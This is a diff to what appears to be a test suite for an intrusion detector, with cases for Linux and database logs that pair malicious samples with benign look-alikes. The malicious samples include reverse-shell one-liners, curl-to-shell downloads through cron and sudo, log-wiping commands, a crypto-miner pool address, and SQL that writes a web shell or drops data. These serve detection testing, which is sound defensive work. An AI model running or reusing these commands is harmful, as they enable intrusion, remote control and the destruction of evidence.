@@ -144,14 +144,20 @@ def linux() -> None:
         [said("ADD_USER", made.format(0, 1000))],
     )
     case("lin-0013", "A shell that fetches, and questions of an intruder; the portal's converter, and a person, are none.",
-         [ran("/usr/bin/dash", "-c", "curl http://203.0.113.9/a -o /tmp/a", uid=33), ran("/usr/bin/whoami", uid=48)],
-         [ran("/usr/bin/dash", "-c", "soffice --convert-to pdf van-ban.docx", uid=33), ran("/usr/bin/whoami"), ran("/usr/bin/convert", "a.png", "b.jpg", uid=33)])  # fmt: skip
+         [ran("/usr/bin/dash", "-c", "curl http://203.0.113.9/a -o /tmp/a", uid=33), ran("/usr/bin/whoami", uid=48), ran("/usr/bin/python3.11", "-c", "import pty", uid=33)],
+         [ran("/usr/bin/dash", "-c", "soffice --convert-to pdf van-ban.docx", uid=33), ran("/usr/bin/whoami"), ran("/usr/bin/convert", "a.png", "b.jpg", uid=33), ran("/usr/bin/python3", "/opt/cong/manage.py", "gui-thu", uid=33)])  # fmt: skip
     case("lin-0014", "Four ways out; a copy between servers and a port that is tested are none.",
          [ran("/usr/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ran("/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
           ran("/usr/bin/python3", "-c", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"), ran("/usr/bin/sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 1 > /tmp/f; mkfifo /tmp/g | nc 203.0.113.9 2")],
          [ran("/usr/bin/nc", "-zv", "10.1.1.2", "22"), ran("/usr/bin/bash", "-c", "scp a.tgz may2:/sao-luu"), ran("/usr/bin/python3", "kiem-tra.py")])  # fmt: skip
-    alone("lin-0015", "Fetched and run by cron; fetched into a file, and a script of the machine, are none.", [syslog("CRON", "(root) CMD (curl -s http://203.0.113.9/x.sh | bash)")],
-          [syslog("CRON", "(root) CMD (curl -s http://203.0.113.9/x.txt -o /tmp/x)"), syslog("CRON", "(root) CMD (cat /opt/x.sh | bash)")])  # fmt: skip
+    case("lin-0015", "Fetched and given to a shell, by a pipe or in its place; fetched into a file, and a script of the machine, are none.",
+         [ran("/usr/bin/bash", "-c", "wget -qO- 203.0.113.9/x.sh |/bin/sh"), ran("/usr/bin/bash", "-c", "bash <(curl -s https://x.example/a)")],
+         [ran("/usr/bin/bash", "-c", "curl -s https://backan.example/x.txt -o /tmp/x"), ran("/usr/bin/bash", "-c", "cat /opt/x.sh | bash"), ran("/usr/bin/bash", "-c", "curl -s https://backan.example/ds | grep bash")])  # fmt: skip
+    job = "(root) CMD ({})"
+    alone("lin-0025", "Fetched and run by cron, by sudo; fetched into a file, and a script of the machine, are none.",
+          [syslog("CRON", job.format("curl -s http://203.0.113.9/x.sh | bash")), syslog("CRON", job.format("wget -q http://203.0.113.9/x -O /tmp/x; sh /tmp/x")),
+           syslog("sudo", "  vanthu : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c curl x.example/a|sh")],
+          [syslog("CRON", job.format("curl -s http://203.0.113.9/x.txt -o /tmp/x")), syslog("CRON", job.format("cat /opt/x.sh | bash")), syslog("CRON", job.format("wget -q https://backan.example/sl/wget.html"))])  # fmt: skip
     alone(
         "lin-0016",
         "A service account writes jobs; a person does, and a list is looked at.",
@@ -161,9 +167,13 @@ def linux() -> None:
     case("lin-0017", "Keys and start files by a shell; the package manager writes services, sshd reads keys.",
          [Audit().wrote("/root/.ssh/authorized_keys", "/usr/bin/tee").lines, Audit().wrote("/etc/ld.so.preload", "/usr/bin/bash").lines],
          [Audit().wrote("/etc/systemd/system/nginx.service", "/usr/bin/dpkg").lines, Audit().wrote("/root/.ssh/authorized_keys", "/usr/sbin/sshd").lines, Audit().wrote("/root/.ssh/known_hosts", "/usr/bin/ssh").lines])  # fmt: skip
-    case("lin-0018", "By root through sudo, and by a process; a rotated file, and reading, are none.",
-         [[syslog("sudo", "  vanthu : TTY=pts/0 ; PWD=/home/vanthu ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/nginx")], ran("/usr/bin/shred", "-u", "/var/log/auth.log"), ran("/usr/bin/rm", "/root/.bash_history")],
-         [ran("/usr/bin/rm", "/var/log/nginx/access.log.14.gz"), ran("/usr/bin/less", "/var/log/auth.log"), [syslog("sudo", "  vanthu : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tail /var/log/syslog")]])  # fmt: skip
+    case("lin-0018", "Removed, emptied, or its history gone; a rotated file, and reading, are none.",
+         [ran("/usr/bin/shred", "-u", "/var/log/auth.log"), ran("/usr/bin/rm", "/root/.bash_history"), ran("/usr/bin/bash", "-c", "cat /dev/null > /var/log/wtmp"), ran("/usr/bin/ln", "-sf", "/dev/null", "/root/.bash_history")],
+         [ran("/usr/bin/rm", "/var/log/nginx/access.log.14.gz"), ran("/usr/bin/less", "/var/log/auth.log"), ran("/usr/bin/bash", "-c", "du -s /var/log/nginx > /root/ds.txt"), ran("/usr/bin/grep", "-c", "/root/.bash_history")])  # fmt: skip
+    asked = "  vanthu : TTY=pts/0 ; PWD=/home/vanthu ; USER=root ; COMMAND={}"
+    alone("lin-0026", "By root through sudo; a rotated file, and reading, are none.",
+          [syslog("sudo", asked.format("/usr/bin/rm -rf /var/log/nginx")), syslog("sudo", asked.format("/usr/bin/truncate -s 0 /var/log/auth.log"))],
+          [syslog("sudo", asked.format("/usr/bin/tail /var/log/syslog")), syslog("sudo", asked.format("/usr/bin/rm /var/log/syslog.2.gz")), syslog("CRON", job.format("find /var/log -name '*.1' -exec rm {} +"))])  # fmt: skip
     unit = 'pid=1 uid=0 auid=4294967295 ses=4294967295 msg=\'unit={} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\''
     case("lin-0019", "Ended by a person, or the sender of logs stopped; the machine goes down, or a printer service stops.",
          [said("DAEMON_END", "op=terminate auid=1000 pid=1 subj=unconfined res=success"), said("SERVICE_STOP", unit.format("rsyslog"))],
@@ -189,8 +199,8 @@ def linux() -> None:
     case(
         "lin-0023",
         "A pool's address; a build with all cores is none.",
-        [ran("/dev/shm/x", "-o", "stratum+tcp://198.51.100.9:3333")],
-        [ran("/usr/bin/make", "-j8")],
+        [ran("/dev/shm/x", "-o", "stratum+tcp://198.51.100.9:3333"), ran("/usr/bin/systemctl", "start", "xmrig")],
+        [ran("/usr/bin/make", "-j8"), ran("/usr/bin/pgrep", "xmrig")],
     )
     case(
         "lin-0024",
@@ -212,7 +222,7 @@ def databases() -> None:
     case("db-0012", "Twelve tables in two minutes; one table twelve times, and questions with a condition, are none.",
          [[query(f"SELECT /*!40001 SQL_NO_CACHE */ * FROM `bang_{n}`", seconds=10 * n) for n in range(12)]],
          [[query("select * from danh_muc", seconds=10 * n) for n in range(12)], [query(f"select * from bang_{n} where id = 1", seconds=10 * n) for n in range(12)]], "correlation")  # fmt: skip
-    alone("db-0013", "A file and a program; a text about them is none.", [query("select 1 into outfile \"/var/www/html/a.php\""), query("copy x to program \"id\"")],
+    alone("db-0013", "A file and a program; a text about them is none.", [query("select 1 into outfile \"/var/www/html/a.php\""), query("copy x to program \"id\""), query("select 1 into/**/dumpfile \"/var/lib/a.so\"")],
           [query("select ten from tep_outfile"), query("insert into tin values (\"outfile\")")])  # fmt: skip
     option = "Configuration option '{}' changed from 0 to {}. Run the RECONFIGURE statement to install."
     alone("db-0014", "Switched on; another option is none.", [f"{at(0):%Y-%m-%d %H:%M:%S}.10 spid52      {option.format('xp_cmdshell', 1)}"],
@@ -220,8 +230,8 @@ def databases() -> None:
     alone(
         "db-0015",
         "Gone; refused, and a table of an hour, are none.",
-        [query("drop table ho_so"), query("TRUNCATE TABLE can_bo")],
-        [query("drop table ho_so", 1142), query("drop temporary table t1"), query('select "drop table" from x')],
+        [query("drop table ho_so"), query("TRUNCATE TABLE can_bo"), query("/* x */ drop database congdan"), query("drop table ho_so # tmp_")],
+        [query("drop table ho_so", 1142), query("drop temporary table t1"), query("drop table if exists tmp_bc"), query('select "drop table" from x')],
     )
     case(
         "db-0016",
